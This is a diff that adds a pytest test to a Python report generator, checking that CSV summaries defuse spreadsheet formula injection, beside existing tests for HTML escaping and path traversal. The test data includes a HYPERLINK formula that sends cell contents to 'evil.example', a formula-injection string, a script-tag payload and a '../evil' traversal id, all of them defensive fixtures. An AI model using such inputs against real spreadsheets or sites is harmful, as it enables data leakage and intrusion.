@@ -269,6 +269,27 @@ def test_errors_are_escaped_in_the_index(tmp_path, demo_store):
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
 
 
+@pytest.mark.parametrize("lang", ["fr", "en"])
+def test_summary_writes_formulas_as_text_and_numbers_as_numbers(tmp_path, demo_store, lang):
+    import csv
+
+    from collective_impact.report.batch import TaskResult, territory_figures, write_summary
+
+    tables = Store(demo_store).load(territories=["QPV-NORD"])
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+    tables["territories"].loc[:, "name"] = formula
+    figures = territory_figures(tables)
+    figures["indicators_achieved"] = -3  # a negative number stays a number
+    result = TaskResult("QPV-NORD", "failed", error="-1+2 @SUM(A1)")
+    path = write_summary(tmp_path / "summary.csv", figures, (result,), lang=lang, out_dir=tmp_path)
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        rows = list(csv.DictReader(file, delimiter=";" if lang == "fr" else ","))
+    assert rows[0]["name"] == "'" + formula
+    assert rows[0]["error"] == "'-1+2 @SUM(A1)"
+    assert rows[0]["indicators_achieved"] == "-3"
+    assert rows[0]["territory_id"] == "QPV-NORD" and rows[0]["status"] == "failed"
+
+
 def test_a_path_traversal_id_is_refused(demo_store, tmp_path, capsys):
     with pytest.raises(RunError, match="non valide"):
         run_batch(store_path=demo_store, out_dir=tmp_path / "out", territories=["../evil"], progress=False)
